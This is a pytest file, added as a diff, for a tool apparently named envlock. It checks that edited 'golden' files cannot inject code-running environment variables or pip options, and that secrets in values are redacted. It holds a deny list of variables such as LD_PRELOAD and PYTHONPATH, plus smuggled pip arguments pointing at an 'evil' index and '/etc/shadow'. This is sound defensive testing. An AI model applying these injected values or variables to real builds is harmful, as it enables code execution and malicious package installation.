@@ -1,0 +1,376 @@
+"""Values that come from a golden or the environment (issue 10, classes 1 and 3).
+
+Class 1: a golden can run code. The integrity digest is a checksum, so an attacker edits the
+golden and reseals it (``envlock.golden.seal``), exactly as these tests do. Its environment must
+never reach a process (verify --golden-env, lockdown(golden=)) or an image (build) unless it is
+allow-listed, short, printable text; other golden fields that reach pip must have sane shapes.
+
+Class 3: secrets in values. Credentials in URLs, query strings and ``key=value`` pairs, and home
+directories, are redacted at capture and wherever a value leaves the process.
+"""
+
+from __future__ import annotations
+
+import subprocess
+import sys
+import textwrap
+import time
+import warnings
+from pathlib import Path
+from typing import Any
+
+import numpy as np
+import pytest
+
+from envlock.diff import diff_manifests
+from envlock.errors import BAD_INPUT, BadFileError, BadInputError
+from envlock.fingerprint.environ import MAX_VALUE_LENGTH, capture_environment, environment_problem
+from envlock.golden import Golden, OutputRecord, ProbeRecord, load_golden, save_golden, seal
+from envlock.image import wheelhouse
+from envlock.image.spec import check_golden_for_image, spec_from_golden
+from envlock.locking import golden_environment_changes
+from envlock.models import Distribution, LockdownSettings, Manifest
+from envlock.probes.compare import Tolerance, summarize_array
+from envlock.redact import needs_redaction, redact_value
+from envlock.render import render_differences, render_manifest
+from envlock.verify import ProbeVerdict, _report, child_environment, render_report
+from tests.conftest import env_with, envlock_cli
+from tests.unit.test_render import BASE, make_manifest
+
+# ---------------------------------------------------------------- helpers
+
+
+def make_hostile_golden(*, manifest_env: dict[str, Any] | None = None, lockdown_env: dict[str, Any] | None = None,
+                        manifest: Manifest | None = None, skipped_reason: str | None = None) -> Golden:
+    """A golden edited after recording and resealed: model_copy skips validation, as a text editor does."""
+    output = OutputRecord.model_validate(summarize_array("product", np.arange(16, dtype=np.float32)))
+    probes = [ProbeRecord(name="matmul.f32", tags=["matmul"], group="canary", status="ok", outputs=[output])]
+    if skipped_reason is not None:
+        probes.append(ProbeRecord(name="gpu.matmul", tags=["gpu"], group="canary", status="skipped",
+                                  reason=skipped_reason))
+    golden = Golden(envlock_version="0.1.0", created_at="2026-01-01T00:00:00+00:00", manifest=make_manifest(),
+                    lockdown=LockdownSettings(seed=42, intra_op_threads=2, inter_op_threads=1), repeat=1,
+                    probes=probes)
+    manifest = manifest or golden.manifest
+    if manifest_env is not None:
+        manifest = manifest.model_copy(update={"environment": manifest_env})
+    lockdown = golden.lockdown
+    if lockdown_env is not None:
+        lockdown = lockdown.model_copy(update={"environment": lockdown_env})
+    return seal(golden.model_copy(update={"manifest": manifest, "lockdown": lockdown}))
+
+
+def write_hostile_golden(path: Path, **kwargs: Any) -> Path:
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # pydantic warns when it serialises a non-str value as str
+        save_golden(path, make_hostile_golden(**kwargs))
+    return path
+
+
+def evil_package(tmp_path: Path) -> tuple[Path, Path]:
+    """A directory whose sitecustomize.py, if Python ever imports it, leaves a marker file."""
+    package, marker = tmp_path / "evil", tmp_path / "PWNED"
+    package.mkdir()
+    (package / "sitecustomize.py").write_text(f"open({str(marker)!r}, 'w').write('ran')\n")
+    return package, marker
+
+
+# Names that run code, change what is loaded or leak, and which must never be applied from a golden.
+CODE_RUNNING_NAMES = [
+    "PYTHONPATH", "PYTHONHOME", "PYTHONSTARTUP", "PYTHONINSPECT", "PYTHONWARNINGS", "PYTHONBREAKPOINT",
+    "PYTHONUSERBASE", "PYTHONEXECUTABLE", "PYTHONPLATLIBDIR", "LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT",
+    "GCONV_PATH", "BASH_ENV", "ENV", "PATH", "HOME", "SHELL", "IFS", "PS4", "SHELLOPTS", "TMPDIR", "PERL5OPT",
+    "NODE_OPTIONS", "JAVA_TOOL_OPTIONS", "GIT_SSH_COMMAND", "DOCKER_HOST", "http_proxy", "HTTPS_PROXY",
+    "AWS_SECRET_ACCESS_KEY", "TF_VAR_db_password", "TF_HTTP_PASSWORD", "XLA_TOKEN", "pythonpath", "Xla_FLAGS",
+    "XLA_FLAGS ", " XLA_FLAGS", "XLA_FLAGS=1", "", "X" * 1000, "OMP_\u00e9",
+]
+
+BAD_VALUES = [
+    "a\nb", "a\rb", "a\0b", "\x1b[31mred", "tab\there", "\x7f", "caf\u00e9", "\u202eevil", "x" * (MAX_VALUE_LENGTH + 1),
+    "\u2028", 2, None, ["1"], {"a": "b"}, True,
+]
+
+
+# ---------------------------------------------------------------- class 1: refused on load
+
+
+@pytest.mark.parametrize("where", ["lockdown_env", "manifest_env"])
+@pytest.mark.parametrize("name", CODE_RUNNING_NAMES)
+def test_a_golden_with_a_code_running_variable_is_refused_on_load(tmp_path: Path, where: str, name: str) -> None:
+    path = write_hostile_golden(tmp_path / "golden.json", **{where: {"TF_ENABLE_ONEDNN_OPTS": "1", name: "/tmp/x"}})
+    with pytest.raises(BadFileError) as caught:
+        load_golden(path)
+    message = str(caught.value)
+    assert caught.value.exit_code == BAD_INPUT and "\n" not in message and "environment" in message
+    assert ascii(name[:10])[1:-1] in message  # names the variable, escaped
+
+
+@pytest.mark.parametrize("where", ["lockdown_env", "manifest_env"])
+@pytest.mark.parametrize("value", BAD_VALUES, ids=repr)
+def test_a_golden_with_a_bad_value_is_refused_on_load(tmp_path: Path, where: str, value: Any) -> None:
+    path = write_hostile_golden(tmp_path / "golden.json", **{where: {"XLA_FLAGS": value}})
+    with pytest.raises(BadFileError) as caught:
+        load_golden(path)
+    assert "\n" not in str(caught.value) and "environment" in str(caught.value)
+
+
+def test_too_many_variables_are_refused(tmp_path: Path) -> None:
+    env = {f"OMP_X{i}": "1" for i in range(1000)}
+    with pytest.raises(BadFileError, match="at most"):
+        load_golden(write_hostile_golden(tmp_path / "golden.json", lockdown_env=env))
+
+
+def test_an_ordinary_golden_environment_loads(tmp_path: Path) -> None:
+    env = {"TF_ENABLE_ONEDNN_OPTS": "0", "XLA_FLAGS": "--xla_cpu_enable_fast_math=false --xla_dump_to=/tmp/d",
+           "OMP_NUM_THREADS": "2", "CUBLAS_WORKSPACE_CONFIG": ":4096:8", "PYTHONHASHSEED": "0"}
+    loaded = load_golden(write_hostile_golden(tmp_path / "golden.json", manifest_env=env, lockdown_env=env))
+    assert loaded.lockdown.environment == env == loaded.manifest.environment
+
+
+# ---------------------------------------------------------------- class 1: each use site checks again
+
+
+@pytest.mark.parametrize("name", ["PYTHONPATH", "LD_PRELOAD", "BASH_ENV", "PYTHONSTARTUP"])
+def test_use_sites_refuse_a_golden_built_without_validation(name: str) -> None:
+    golden = make_hostile_golden(lockdown_env={name: "/tmp/evil"})
+    with pytest.raises(BadInputError, match=name):
+        golden_environment_changes({"PATH": "/bin"}, golden.lockdown.environment)
+    with pytest.raises(BadInputError, match=name):
+        child_environment(golden, {"PATH": "/bin"}, golden_env=True)
+    with pytest.raises(BadInputError, match=name):
+        spec_from_golden(golden.manifest, golden.lockdown, variant="cpu", base=BASE, golden_digest=golden.digest,
+                         envlock_version="0.1.0", compat=None)
+    assert child_environment(golden, {"PATH": "/bin"}, golden_env=False) == {"PATH": "/bin"}
+
+
+def test_verify_golden_env_never_runs_a_golden_sitecustomize(tmp_path: Path) -> None:
+    package, marker = evil_package(tmp_path)
+    golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"PYTHONPATH": str(package)})
+    proc = envlock_cli("verify", str(golden), "--golden-env", "--repeat", "1", timeout=300)
+    assert proc.returncode == BAD_INPUT, proc.stderr
+    assert len(proc.stderr.strip().splitlines()) == 1 and "PYTHONPATH" in proc.stderr
+    assert "Traceback" not in proc.stderr + proc.stdout
+    assert not marker.exists()
+
+
+def test_lockdown_with_a_hostile_golden_exports_nothing_and_imports_no_tensorflow(tmp_path: Path) -> None:
+    package, marker = evil_package(tmp_path)
+    golden = write_hostile_golden(tmp_path / "golden.json",
+                                  lockdown_env={"PYTHONPATH": str(package), "LD_PRELOAD": str(tmp_path / "x.so")})
+    script = textwrap.dedent(f"""
+        import os, subprocess, sys
+        before = dict(os.environ)
+        import envlock
+        try:
+            envlock.lockdown(golden={str(golden)!r})
+            print("accepted")
+        except envlock.errors.EnvlockError as exc:
+            print("refused", exc.exit_code)
+        subprocess.run([sys.executable, "-c", "pass"], check=False)  # would import a planted sitecustomize
+        print("environ unchanged", os.environ == before)
+        print("tensorflow imported", "tensorflow" in sys.modules)
+    """)
+    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, env=env_with(),
+                          timeout=300, check=False)
+    assert "refused 2" in proc.stdout, proc.stdout + proc.stderr
+    assert "environ unchanged True" in proc.stdout and "tensorflow imported False" in proc.stdout
+    assert not marker.exists()
+
+
+def test_build_never_bakes_a_code_running_variable(tmp_path: Path) -> None:
+    package, _ = evil_package(tmp_path)
+    golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"PYTHONPATH": str(package)},
+                                  manifest_env={"LD_PRELOAD": "/tmp/x.so"})
+    context, cache = tmp_path / "ctx", tmp_path / "cache"
+    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
+                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
+    assert proc.returncode == BAD_INPUT, proc.stderr
+    assert len(proc.stderr.strip().splitlines()) == 1 and "Traceback" not in proc.stderr
+    assert not context.exists() and not cache.exists()
+
+
+# ---------------------------------------------------------------- class 1: package fields that reach pip
+
+
+def _with_python(manifest: Manifest, **python: Any) -> Manifest:
+    return manifest.model_copy(update={"python": manifest.python.model_copy(update=python)})
+
+
+HOSTILE_DISTRIBUTIONS = [
+    ("numpy\n--index-url http://evil/simple", "2.4.6"),
+    ("--extra-index-url=http://evil/simple", "1"),
+    ("-r /etc/shadow", "1"),
+    ("evil @ https://evil/evil.whl", "1"),
+    ("numpy", "2.4.6\n--index-url http://evil/simple"),
+    ("numpy", "2.4.6 --hash=sha256:00"),
+    ("numpy", "2.4.6; python_version>'0'"),
+    ("numpy", "*"),
+    ("numpy", ""),
+    ("", "1.0"),
+    ("a" * 300, "1.0"),
+    ("numpy", "1" * 300),
+]
+
+
+@pytest.mark.parametrize(("name", "version"), HOSTILE_DISTRIBUTIONS)
+def test_hostile_distribution_names_and_versions_never_reach_pip(name: str, version: str, tmp_path: Path) -> None:
+    manifest = make_manifest()
+    manifest = _with_python(manifest, distributions=[*manifest.python.distributions,
+                                                     Distribution.model_construct(name=name, version=version)])
+    with pytest.raises(BadInputError, match="refusing to build"):
+        wheelhouse.package_set(manifest, variant="cpu", compat=None, envlock_requirements=[])
+    golden = write_hostile_golden(tmp_path / "golden.json", manifest=manifest)
+    context, cache = tmp_path / "ctx", tmp_path / "cache"
+    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
+                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
+    assert proc.returncode == BAD_INPUT and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+    assert not context.exists() and not (cache / "locks").exists()
+
+
+@pytest.mark.parametrize(("section", "field", "value"), [
+    ("tensorflow", "version", "2.21.0 --index-url http://evil"),
+    ("tensorflow", "version", "2.21.0\nRUN x"),
+    ("python", "version", "3.11 --index-url http://evil"),
+    ("host", "architecture", "x86_64 --platform any"),
+    ("gpu", "driver_version", "\u00b2\u00b3"),
+    ("gpu", "driver_version", "9" * 5000),
+])
+def test_hostile_platform_fields_are_refused_before_pip(section: str, field: str, value: str) -> None:
+    manifest = make_manifest()
+    part = getattr(manifest, section).model_copy(update={field: value})
+    with pytest.raises(BadInputError, match="refusing to build"):
+        check_golden_for_image(manifest.model_copy(update={section: part}), LockdownSettings())
+
+
+def test_ordinary_package_fields_pass() -> None:
+    manifest = _with_python(make_manifest(), distributions=[
+        Distribution(name=n, version=v) for n, v in [("tensorflow_cpu", "2.21.0"), ("torch", "2.5.1+cpu"),
+                                                     ("zope.interface", "7.0"), ("pkg", "1.0rc1.post2.dev3"),
+                                                     ("x", "1!2.0")]])
+    check_golden_for_image(manifest, LockdownSettings())
+
+
+# ---------------------------------------------------------------- class 3: redact_value
+
+
+@pytest.mark.parametrize(("value", "expected"), [
+    ("--xla_dump_to=https://host/x?token=abc", "--xla_dump_to=https://host/x?token=REDACTED"),
+    ("https://user:pass@host/", "https://REDACTED@host/"),
+    ("https://ghp_abcdef@github.com/o/r.git", "https://REDACTED@github.com/o/r.git"),
+    ("https://u:p@ss@host/p", "https://REDACTED@host/p"),
+    ("s3://AKIA:sec@bucket/k?X-Amz-Signature=zz&X-Amz-Credential=c#frag=1",
+     "s3://REDACTED@bucket/k?X-Amz-Signature=REDACTED&X-Amz-Credential=REDACTED#frag=REDACTED"),
+    ("gs://b/o?sig=s;se=2030", "gs://b/o?sig=REDACTED;se=REDACTED"),
+    ("https://h/p?opaquesecret", "https://h/p?REDACTED"),
+    ("HTTPS://h/p?Token=x --next=1", "HTTPS://h/p?Token=REDACTED --next=1"),
+    ("--xla_dump_to=/home/alice/dumps", "--xla_dump_to=~/dumps"),
+    ("/home/alice", "~"),
+    ("/root/.cache/x:/Users/bob/y", "~/.cache/x:~/y"),
+    ("file:///home/carol/x", "file://~/x"),
+    ("--password=hunter2 --api_key=k --auth_token=t", "--password=REDACTED --api_key=REDACTED --auth_token=REDACTED"),
+    ("client_secret=abc,pass=x", "client_secret=REDACTED,pass=REDACTED"),
+    ("Authorization: Bearer abcdefghijklmnop", "Authorization: Bearer REDACTED"),
+])
+def test_redact_value(value: str, expected: str) -> None:
+    assert redact_value(value) == expected
+    assert redact_value(expected) == expected  # idempotent: a redacted value stays as it is
+
+
+def test_redact_value_uses_home_when_given() -> None:
+    assert redact_value("--xla_dump_to=/var/lib/ci/d", home="/var/lib/ci/") == "--xla_dump_to=~/d"
+    assert redact_value("/var/lib/cix/d", home="/var/lib/ci") == "/var/lib/cix/d"
+    assert redact_value("/usr/lib", home="/") == "/usr/lib"  # HOME=/ must not turn every path into ~
+
+
+@pytest.mark.parametrize("value", [
+    "1", "0", "--tf_xla_auto_jit=2", "--xla_cpu_enable_fast_math=false --xla_dump_to=/tmp/d", ":4096:8", "AVX2",
+    "--xla_disable_hlo_passes=fusion,cse", "granularity=fine,compact,1,0", "/rootfs/x", "/srv/home/alice/x",
+    "~/already", "KEYSTONE", "0,1", "--xla_gpu_autotune_level=0", "true",
+])
+def test_ordinary_values_are_unchanged(value: str) -> None:
+    assert not needs_redaction(value) and redact_value(value) == value
+
+
+@pytest.mark.parametrize("value", [
+    "a" * 200_000, "://" * 70_000, "a=" * 100_000, "-" * 200_000 + "=", "/home/" * 40_000, "?&=" * 70_000,
+    "https://" + "@" * 200_000, "x://" + "a:" * 100_000, "bearer " * 30_000, "/root" * 40_000, "=" * 200_000,
+])
+def test_redaction_is_linear_on_hostile_input(value: str) -> None:
+    started = time.monotonic()
+    redact_value(value, home="/h")
+    assert time.monotonic() - started < 5  # generous: quadratic backtracking would take minutes
+
+
+# ---------------------------------------------------------------- class 3: wherever a value leaves
+
+
+SECRET_ENV = {"XLA_FLAGS": "--xla_dump_to=https://host/x?token=abc123", "TF_XLA_FLAGS": "--x=https://u:pw456@h/",
+              "NCCL_DEBUG_FILE": "/home/alice/nccl.log"}
+SECRETS = ("abc123", "pw456", "alice")
+
+
+def _no_secret(text: str) -> None:
+    for secret in SECRETS:
+        assert secret not in text, text
+
+
+def test_capture_redacts_but_keeps_ordinary_values() -> None:
+    captured = capture_environment({**SECRET_ENV, "OMP_NUM_THREADS": "2", "HOME": "/home/alice",
+                                    "KMP_AFFINITY": "granularity=fine", "ONEDNN_VERBOSE": "a\nb"})
+    _no_secret(repr(captured))
+    assert captured["OMP_NUM_THREADS"] == "2" and captured["KMP_AFFINITY"] == "granularity=fine"
+    assert captured["XLA_FLAGS"] == "--xla_dump_to=https://host/x?token=REDACTED"
+    assert captured["NCCL_DEBUG_FILE"] == "~/nccl.log"
+    assert "ONEDNN_VERBOSE" not in captured  # could not be loaded back: left out, not recorded broken
+    assert environment_problem(captured) is None
+    assert capture_environment({"NCCL_DEBUG_FILE": "/opt/ci/c", "HOME": "/opt/ci"}) == {"NCCL_DEBUG_FILE": "~/c"}
+
+
+def test_differences_reports_and_renders_carry_no_secret() -> None:
+    # The golden comes from an older envlock or a hostile person: its manifest holds secrets verbatim.
+    golden = make_hostile_golden(manifest_env=SECRET_ENV, skipped_reason="no GPU at https://u:pw456@h/?token=abc123")
+    here = make_manifest(env={"XLA_FLAGS": "--xla_dump_to=/home/alice/other"})
+    differences = diff_manifests(golden.manifest, here)
+    assert {d.path for d in differences} >= {"environment.XLA_FLAGS", "environment.TF_XLA_FLAGS"}
+    _no_secret(repr([d.model_dump() for d in differences]))
+    _no_secret(render_differences(differences))
+    _no_secret(render_manifest(golden.manifest))
+    verdict = ProbeVerdict(name="gpu.matmul", status="skipped", reason=golden.probes[1].reason)
+    report = _report(Path("g.json"), golden, here.digest, [verdict], differences, tolerance=Tolerance(), repeat=1,
+                     golden_env=False, stable_drifted=False, timings={})
+    _no_secret(report.model_dump_json())
+    _no_secret(render_report(report))
+
+
+def test_daemon_fingerprint_check_carries_no_secret() -> None:
+    from envlock.daemon.checks import fingerprint_check
+
+    golden = make_hostile_golden(manifest_env=SECRET_ENV)
+    result = fingerprint_check(golden.manifest, golden_digest=golden.digest, environ={},
+                               capture=lambda _environ: make_manifest(env={}))
+    assert result.outcome == "drift"
+    _no_secret(repr(result.to_dict()) + str(result.reason))
+
+
+@pytest.mark.parametrize("value", ["--xla_dump_to=https://host/x?token=abc123", "--xla_dump_to=/home/alice/d",
+                                   "--xla_dump_to=https://u:pw456@h/"])
+def test_build_refuses_to_bake_a_value_that_needs_redaction(tmp_path: Path, value: str) -> None:
+    golden = write_hostile_golden(tmp_path / "golden.json", lockdown_env={"XLA_FLAGS": value})
+    loaded = load_golden(golden)  # loads: verify and lockdown may use it; only an image refuses it
+    with pytest.raises(BadInputError, match="redact"):
+        spec_from_golden(loaded.manifest, loaded.lockdown, variant="cpu", base=BASE, golden_digest=loaded.digest,
+                         envlock_version="0.1.0", compat=None)
+    context, cache = tmp_path / "ctx", tmp_path / "cache"
+    proc = envlock_cli("build", "--golden", str(golden), "--context-only", str(context),
+                       env=env_with(ENVLOCK_CACHE_DIR=str(cache)), timeout=120)
+    assert proc.returncode == BAD_INPUT and len(proc.stderr.strip().splitlines()) == 1, proc.stderr
+    assert "XLA_FLAGS" in proc.stderr and "redact" in proc.stderr
+    _no_secret(proc.stderr + proc.stdout)
+    assert not context.exists()
+
+
+def test_lockdown_problem_messages_carry_no_secret() -> None:
+    from envlock.locking import _redacted
+
+    assert _redacted("--xla_dump_to=https://h/?token=abc123") == "--xla_dump_to=https://h/?token=REDACTED"
+    assert _redacted(None) is None
